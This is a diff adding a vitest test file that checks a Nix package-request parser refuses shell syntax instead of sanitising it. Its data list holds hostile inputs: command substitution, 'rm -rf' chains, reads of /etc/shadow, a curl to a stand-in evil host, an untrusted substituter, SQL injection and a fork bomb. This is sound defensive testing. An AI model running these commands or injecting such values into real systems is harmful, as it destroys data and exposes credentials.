@@ -1,0 +1,48 @@
+/**
+ * Shell syntax in a request is never cleaned into an innocent-looking package: either nothing
+ * mutating is understood, or a package word fails the attribute-path check (so the pipeline refuses it).
+ */
+import { describe, expect, it } from "vitest"
+import { checkPackageName } from "../../src/domain/AttrPath.js"
+import { isMutating } from "../../src/domain/Intent.js"
+import { parseRequest } from "../../src/domain/parse/parseRequest.js"
+
+const hostile = [
+  "install $(whoami)", "install `id`", "install firefox; rm -rf ~", "install firefox && reboot",
+  "install firefox | tee log", "install --option foo bar", "install -f evil.nix", "install ../../etc/passwd",
+  "remove ${HOME}", "install firefox > /dev/null", "install firefox < input", "update $(curl evil.sh)",
+  "try cowsay; reboot", "give me a shell with python3; rm -rf /", "rm -rf ~", "sudo rm -rf /",
+  "install ~/evil", "install /etc/shadow", "install ./local.nix", "install a\\b", "install *",
+  "uninstall firefox;", "install --impure", "install -iA nixpkgs.hello --option substituters http://evil"
+]
+
+describe("hostile words", () => {
+  it.each(hostile)("%s is refused, not sanitised", (text) => {
+    const u = parseRequest(text)
+    if (!isMutating(u.intent)) return
+    const pkgs = "packages" in u.intent ? u.intent.packages : []
+    expect(pkgs.some((p) => checkPackageName(p) !== undefined), JSON.stringify(pkgs)).toBe(true)
+  })
+
+  it("keeps the hostile word exactly as written", () => {
+    expect(parseRequest("install $(whoami)").intent).toMatchObject({ _tag: "install", packages: ["$(whoami)"] })
+    expect(parseRequest("install `id`").intent).toMatchObject({ packages: ["`id`"] })
+  })
+
+  it("pasted shell prompts and quotes around names are fine", () => {
+    expect(parseRequest("$ nix-env -iA nixpkgs.htop").intent).toMatchObject({ _tag: "install", packages: ["htop"] })
+    expect(parseRequest("install \"firefox\"").intent).toMatchObject({ _tag: "install", packages: ["firefox"] })
+    expect(parseRequest("install 'git'").intent).toMatchObject({ _tag: "install", packages: ["git"] })
+  })
+
+  it("SQL and fork bombs are not requests", () => {
+    expect(parseRequest("'; DROP TABLE packages; --").intent._tag).toBe("unknown")
+    expect(parseRequest(":(){ :|:& };:").intent._tag).toBe("unknown")
+  })
+
+  it("never throws on odd input", () => {
+    for (const t of ["", " ", "\t", "🙂", "ÿ", "x".repeat(10_000), "install ".repeat(500), "a, , , and and & ,", "(((", "]]]", "{pkgs}", "{n}", "xkeptx0x", "install xkeptx3x"]) {
+      expect(() => parseRequest(t)).not.toThrow()
+    }
+  })
+})
